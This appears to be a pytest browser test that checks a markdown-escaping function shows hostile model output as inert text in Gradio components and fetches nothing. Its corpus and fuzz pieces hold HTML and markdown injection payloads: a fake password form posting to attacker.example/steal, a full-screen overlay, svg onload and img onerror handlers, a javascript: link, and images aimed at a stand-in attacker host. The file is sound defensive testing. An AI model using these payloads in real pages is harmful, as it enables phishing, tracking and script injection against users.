"""Hostile model output in a real Chromium: `escape_markdown_html` (ui/render.py) shown the way the app shows it
(a gr.Markdown as the Label and Feedback tabs build it, a gr.Chatbot as the Arena builds it) puts no element of
the text in the DOM except text and code, and no image or other resource from the text is fetched.

The corpus covers the known ways out: backticks, backslash-escaped and double backticks, fenced code (``` and
~~~, nested, unterminated), HTML blocks and inline HTML, images, links (inline, reference, autolinks, bare URLs,
e-mail), CSS positioning, entities, LaTeX and mermaid (which Gradio's markdown renders), quotes and lists; then
seeded random mixtures of those pieces."""

from __future__ import annotations

import random
import re

import pytest
from servers import browser_page, free_port

from alignstudio.ui.render import escape_markdown_html

pytestmark = pytest.mark.browser

EVIL = "attacker.example"  # every resource in the corpus is on this host (or 198.51.100.7): none may be asked for
FORM = (
    f'<form action="http://{EVIL}/steal" method="post"><input type="password" name="pw"><button>Log in</button></form>'
)
OVERLAY = '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Session expired</div>'

# (text, what the user must see of it as text)
CORPUS = [
    ("\\`" + FORM, '<input type="password" name="pw">'),  # the reported hole: an escaped backtick
    ("\\`" + OVERLAY + "`", "position:fixed"),
    ("\\\\`<img src=http://attacker.example/after-escaped-backslash.png>`", "after-escaped-backslash.png"),
    ('`code` then \\` <img src="http://attacker.example/after-code.png"> `', "after-code.png"),
    ("``double `` <img src=http://attacker.example/double.png>`` tail", "double.png"),
    ("`` ` `` <b>x</b> ``<img src=http://attacker.example/mixed.png>``", "mixed.png"),
    (f'<img src="http://{EVIL}/pixel.png" style="position:fixed;top:0">', "pixel.png"),
    (f"![chart](http://{EVIL}/md-image.png)", "md-image.png"),
    (f'![a][img]\n\n[img]: http://{EVIL}/ref-image.png "t"', "ref-image.png"),
    (f"[click here](http://{EVIL}/phish) and [ref][r] and [r]\n\n[r]: http://{EVIL}/ref", "click here"),
    (f"<http://{EVIL}/autolink> www.{EVIL}/w and mail@{EVIL} and https://{EVIL}/bare", f"https://{EVIL}/bare"),
    (
        f"```\ncode <img src=http://{EVIL}/in-fence.png>\n```\n<img src=http://{EVIL}/after-fence.png>",
        "after-fence.png",
    ),
    (f'~~~\n<form>\n~~~\n<iframe src="http://{EVIL}/frame"></iframe>', "<iframe"),
    (
        f"````\n```\n<img src=http://{EVIL}/nested.png>\n```\n````\n![x](http://{EVIL}/after-nested.png)",
        "after-nested.png",
    ),
    (f"```\nunterminated <img src=http://{EVIL}/unterminated.png>\n\n![x](http://{EVIL}/u2.png)", "u2.png"),
    ("  ```js\n  let a = '<svg onload=alert(1)>'; // &lt; &amp; $$x$$ 50%%\n  ```\n" + OVERLAY, "Session expired"),
    (f"<div>\n\n*markdown in an HTML block* <a href=http://{EVIL}>a</a>\n\n</div>", "markdown in an HTML block"),
    (f"&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=http://{EVIL}/entity.png&#62; &amp;", "&#60;img"),
    (f"> quoted\n>> nested <img src=http://{EVIL}/quote.png>\n> - a list [x](http://{EVIL}/q)", "nested"),
    (f"<svg onload=alert(1)><image href=http://{EVIL}/svg.png /></svg><math><mi>x</mi></math>", "<svg"),
    (f"$$\\href{{http://{EVIL}/tex}}{{x}}$$ and $$x^2$$ and $5", "$$x^2$$"),
    (f'```mermaid\ngraph TD; A-->B; click A "http://{EVIL}/mermaid"\n```', "graph TD"),
    (f"<style>body{{display:none}}</style><link rel=stylesheet href=http://{EVIL}/s.css>", "display:none"),
    (f"| a | b |\n|---|---|\n| <img src=http://{EVIL}/table.png> | x |", "table.png"),
    ("# Heading\n\n- item **bold** _em_ ~~gone~~\n\n---\n\n1. one\n2) two\n\nSetext\n===", "**bold**"),
    (f"%%%LATEX_BLOCK_0%%% <img src=http://{EVIL}/placeholder.png>", "%%%LATEX_BLOCK_0%%%"),  # Gradio's LaTeX mark
    ('<a href="javascript:alert(1)">js</a> <details open><summary>s</summary>d</details>', "<details open>"),
    (f"para\n\nplain\n\n    indented <img src=http://{EVIL}/indented.png>\n\n\tx", "indented"),
    (
        f'<iframe srcdoc="<img src=http://{EVIL}/srcdoc.png>"></iframe><video src=http://198.51.100.7/v autoplay>',
        "srcdoc",
    ),
    ('<p style="position:absolute;left:0">abs</p><span class="fixed inset-0">c</span>', "position:absolute"),
    ("line one\\\nline two  \nline three\r\nwindows", "line two"),
    ("<!-- comment --><![CDATA[x]]><?php x ?><x-tag>t</x-tag>", "<x-tag>"),
    (f"[![img](http://{EVIL}/linked.png)](http://{EVIL}/l) \\[not a link\\](x)", "linked.png"),
    (f"<img src=x onerror=\"this.src='http://{EVIL}/onerror.png'\">", "onerror"),
    (f"```\n$$ ![x](http://{EVIL}/after-dollars.png) <img src=http://{EVIL}/d.png>\n```", "after-dollars.png"),
]

# pieces that open, close or mean something, mixed at random (seeded: the same strings every run)
PIECES = [
    "`",
    "``",
    "```",
    "~~~",
    "\\",
    "\\`",
    "[",
    "]",
    "(",
    ")",
    "!",
    "$$",
    "$",
    "*",
    "_",
    "~~",
    "\n",
    "\n\n",
    "    ",
    "1. ",
    "- ",
    "# ",
    "> ",
    "|",
    "---",
    "<",
    ">",
    "&",
    "&lt;",
    "&#60;",
    ":",
    "%%%LATEX_BLOCK_0%%%",
    "mermaid",
    " x ",
    f"http://{EVIL}/r.png",
    f"www.{EVIL}",
    f"a@{EVIL}",
    f"<img src=http://{EVIL}/i.png>",
    f"![i](http://{EVIL}/m.png)",
    f"](http://{EVIL}/p.png)",
    '<div style="position:fixed">',
    "</div>",
    "<form>",
    "<input>",
    "<b>",
    "\t",
    "\r\n",
    '"',
    "'",
    f"[r]: http://{EVIL}/def.png",
]


def _mixture(seed: int) -> str:
    rng = random.Random(seed)
    return "".join(rng.choices(PIECES, k=rng.randint(4, 40)))


FUZZ = [_mixture(seed) for seed in range(150)]

ALLOWED = {"P", "BR", "CODE", "PRE"}
# every element under a rendered text that is not plain text, code or a line break; and any attribute
FORBIDDEN_JS = f"""roots => roots.map(root => Array.from(root.querySelectorAll('*'))
    .filter(e => !{sorted(ALLOWED)}.includes(e.tagName) || e.attributes.length > 0)
    .map(e => e.outerHTML.slice(0, 160)))"""


@pytest.fixture(scope="module")
def app_url():
    """A Blocks app with the components the tabs use for untrusted text, each showing one text."""
    import gradio as gr

    texts = [text for text, _ in CORPUS] + FUZZ
    with gr.Blocks() as demo:
        for index, text in enumerate(texts):
            gr.Markdown(escape_markdown_html(text), elem_id=f"md-{index}")  # as label.py's gr.Markdown(elem_id=)
        for index, (text, _) in enumerate(CORPUS):  # after text the tab writes itself, which may hold $$ or `
            gr.Markdown(f"Prompt ($$ set ` [x]\n\n{escape_markdown_html(text)}", elem_id=f"md-{len(texts) + index}")
        gr.Chatbot(
            [{"role": "assistant", "content": escape_markdown_html(text)} for text, _ in CORPUS],
            label="Model A",
            height=380,
            elem_id="chat",
        )  # as arena.py builds its two chat windows
    port = free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
    try:
        yield f"http://127.0.0.1:{port}/", len(texts) + len(CORPUS)
    finally:
        demo.close()


def _rendered(page, count: int) -> None:
    """Wait until every Markdown shows its text and the Chatbot its messages, then for the renderers that
    load later (LaTeX, diagrams, images)."""
    page.wait_for_function(
        f"document.querySelectorAll('[id^=md-] span.md').length === {count} && "
        f"document.querySelectorAll('#chat span.md').length === {len(CORPUS)}",
        timeout=90_000,
    )
    page.wait_for_timeout(2_000)


def _flat(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def test_hostile_markdown_shows_as_text_and_fetches_nothing(app_url):
    url, count = app_url
    with browser_page() as page:
        fetched = []
        page.on(
            "request",
            lambda request: (
                fetched.append(request.url) if EVIL in request.url or "198.51.100.7" in request.url else None
            ),
        )
        page.goto(url)
        _rendered(page, count)
        markdowns = page.eval_on_selector_all("[id^=md-] span.md", FORBIDDEN_JS)
        chat = page.eval_on_selector_all("#chat span.md", FORBIDDEN_JS)
        shown = page.eval_on_selector_all("[id^=md-] span.md", "roots => roots.map(r => r.innerText)")
        chat_shown = page.eval_on_selector_all("#chat span.md", "roots => roots.map(r => r.innerText)")
        overlays = page.evaluate("""() => [...document.querySelectorAll('span.md *')].filter(e => {
            const style = getComputedStyle(e); return style.position === 'fixed' || style.position === 'absolute'
        }).length""")
    texts = [text for text, _ in CORPUS] + FUZZ + ["(after $$) " + text for text, _ in CORPUS]
    elements = {texts[i]: found for i, found in enumerate(markdowns) if found}
    elements |= {"(chat) " + texts[i]: found for i, found in enumerate(chat) if found}
    assert elements == {}, f"elements from the text in the DOM: {elements}"
    assert fetched == [] and overlays == 0
    for index, (text, visible) in enumerate(CORPUS):  # the text itself is shown, not swallowed
        assert _flat(visible) in _flat(shown[index]), (text, shown[index])
        assert _flat(visible) in _flat(chat_shown[index]), (text, chat_shown[index])


def test_plain_text_and_code_read_as_written(app_url):
    """What a person sees: the words and symbols as written, line by line; code keeps its characters."""
    url, _ = app_url
    expectations = {  # corpus index -> the whole text the user reads (whitespace aside)
        1: "\\" + "`" + OVERLAY + "`",
        4: "double <img src=http://attacker.example/double.png>`` tail",  # ``double `` is code; `` then unpaired
        24: "# Heading - item **bold** _em_ ~~gone~~ --- 1. one 2) two Setext ===",
        27: "para plain indented <img src=http://attacker.example/indented.png> x",  # not an indented code block
        30: "line one\\ line two line three windows",
    }
    with browser_page() as page:
        page.goto(url)
        page.wait_for_function("document.querySelectorAll('#md-30 span.md').length === 1", timeout=90_000)
        for index, expected in expectations.items():
            assert _flat(page.inner_text(f"#md-{index} span.md")) == _flat(expected)
        assert page.inner_text("#md-11 pre code") == "code <img src=http://attacker.example/in-fence.png>"
        assert page.inner_text("#md-15 pre code") == "let a = '<svg onload=alert(1)>'; // &lt; &amp; $$x$$ 50%%"
        assert page.query_selector("#md-27 pre") is None
        lines = page.eval_on_selector("#md-30 span.md", "e => e.innerText.split('\\n').filter(Boolean)")
        assert lines == ["line one\\", "line two", "line three", "windows"]
